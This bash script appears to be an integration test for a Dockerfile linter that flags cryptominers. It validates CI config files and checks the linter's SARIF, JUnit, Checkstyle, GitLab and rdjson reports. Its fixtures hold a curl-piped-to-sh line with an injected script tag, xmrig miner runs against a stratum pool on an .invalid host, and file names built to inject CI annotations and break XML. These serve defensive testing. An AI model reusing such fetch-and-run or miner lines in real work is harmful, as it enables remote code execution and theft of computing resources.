#!/usr/bin/env bash
# Reports about files whose names and contents are made to break them, read by programs that others wrote: Microsoft's multitool for
# SARIF, a validator of reviewdog's format, a reader of JUnit, a JSON Schema validator, an XML parser. And the files for CI, held to the
# schemas of the services. Needs Node.js, Python and registries of npm and PyPI; installs xmllint on a Debian machine where it is root. What
# cannot be run fails.
set -euo pipefail
cd "$(dirname "$0")/../.."
command -v xmllint >/dev/null || {
  apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends libxml2-utils
}
[ -n "${MINESTOP:-}" ] || cargo build -q
minestop=$(realpath "${MINESTOP:-${CARGO_TARGET_DIR:-target}/debug/minestop}")
tools=$(realpath -m "${CARGO_TARGET_DIR:-target}/formats")
mkdir -p "$tools"
(cd "$tools" && npm install --silent --no-audit --no-fund --no-save --no-package-lock \
  @microsoft/sarif-multitool@5 @umbrelladocs/rdformat-validator@1)
[ -e "$tools/venv" ] || python3 -m venv "$tools/venv"
"$tools/venv/bin/pip" install -q junitparser jsonschema check-jsonschema pre-commit

# Azure and GitLab have regular expressions that only Python's reader takes
service() { "$tools/venv/bin/check-jsonschema" --regex-variant python --builtin-schema "vendor.$1" "${@:2}" >said || { cat said >&2; exit 1; }; }
root=$PWD
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
cd "$folder"
service github-workflows "$root/examples/ci/github.yml" "$root/.github/workflows/release.yml"
service github-actions "$root/action.yml"
service azure-pipelines --data-transform azure-pipelines "$root/examples/ci/azure-pipelines.yml"
# behind the head of a component, which has a schema of its own that nobody publishes
sed '1,/^---$/d' "$root/examples/ci/gitlab-component.yml" >component.yml
service gitlab-ci --data-transform gitlab-ci "$root/examples/ci/gitlab-ci.yml" component.yml
"$tools/venv/bin/pre-commit" validate-manifest "$root/.pre-commit-hooks.yaml"
"$tools/venv/bin/pre-commit" validate-config "$root/examples/ci/pre-commit-config.yaml"
echo 'ok files for CI: schemas of GitHub, Azure and GitLab, pre-commit'

mkdir tree && cd tree
git init -q .
pool='stratum+tcp://pool.example.invalid:1'
for name in 'a b' '<i>x&y' 'ü' "q'\"q" ']]>' '%0a::error::'; do
  mkdir "$name"
  printf 'FROM debian:12\nCMD ["run", "%s"]\nRUN curl -fsSL https://x.example.invalid/<script>alert(1)</script>|sh\n' "$pool" >"$name/Dockerfile"
done
printf 'FROM debian:12\nRUN echo "\x1b[31m \xff ]]> &amp; ::error::x %%0a" && /opt/xmrig\n# \xe2\x80\xae\nUSER "]]>"\nFORM x\n' >$'Dockerfile.x]]>\n::error::y'
printf 'FROM \xf0\x9f\x98\x80:1\nRUN echo "\xf0\x9f\x98\x80\t\xc3\xa9" && /opt/xmrig -o %s\n' "$pool" >Dockerfile.emoji
ln -s gone Dockerfile.gone
printf 'FROM debian:12\n' >Dockerfile
formats=()
for format in json sarif junit checkstyle gitlab rdjson; do formats+=(--format "$format=../report.$format"); done
status=0
"$minestop" lint --preset locked-down "${formats[@]}" >/dev/null 2>&1 || status=$?
[ "$status" -eq 2 ] || { echo "formats: exit code $status, not that of a file that cannot be read" >&2; exit 1; }
cd ..
"$minestop" schema report >schema.json

said=$("$tools/node_modules/.bin/sarif-multitool" validate report.sarif)
# no address of the project is published yet, which is the one thing that it may say
if grep -E ' (error|warning) ' <<<"$said" | grep -v SARIF2005; then exit 1; fi
grep -q 'Analysis completed successfully' <<<"$said"
echo 'ok sarif: multitool'
"$tools/node_modules/.bin/rdformat-validator" --strict report.rdjson >said || { cat said >&2; exit 1; }
echo 'ok rdjson: rdformat-validator'
xmllint --noout report.junit report.checkstyle
echo 'ok junit, checkstyle: xmllint'
"$tools/venv/bin/python" - <<'PYTHON'
import json
import xml.etree.ElementTree as tree
import jsonschema
from junitparser import JUnitXml

report = json.load(open("report.json"))
jsonschema.validate(report, json.load(open("schema.json")))
findings = sum(len(file["findings"]) for file in report["files"])
stops = sum(file["counts"]["stop"] for file in report["files"])
assert findings > 20 and stops > 10, (findings, stops)
junit = JUnitXml.fromfile("report.junit")
assert (junit.failures, junit.errors) == (stops, 1), (junit.failures, junit.errors, stops)
checkstyle = tree.parse("report.checkstyle").getroot()
errors = [error.get("severity") for error in checkstyle.iter("error")]
assert errors.count("error") == stops + 1, errors
issues = json.load(open("report.gitlab"))
assert len({issue["fingerprint"] for issue in issues}) == len(issues)
# what GitLab itself asks of an issue before it takes it (gitlabhq, app/validators/json_schemas/codeclimate.json), and what its
# documentation asks beside that
text, number, thing = {"type": "string"}, {"type": "integer", "minimum": 1}, {"type": "object"}
place = {**thing, "required": ["path", "lines"], "properties": {
    "path": text, "lines": {**thing, "required": ["begin"], "properties": {"begin": number}}}}
wanted = {"description": text, "check_name": text, "fingerprint": text, "severity": text, "location": place}
for issue in issues:
    jsonschema.validate(issue, {**thing, "required": list(wanted), "properties": wanted})
    assert issue["severity"] in ("info", "minor", "major", "critical", "blocker")
    assert issue["location"]["path"] and issue["location"]["lines"]["begin"] >= 1
print(f"ok json, junit, checkstyle, gitlab: {findings} findings, {stops} STOP in each")
PYTHON
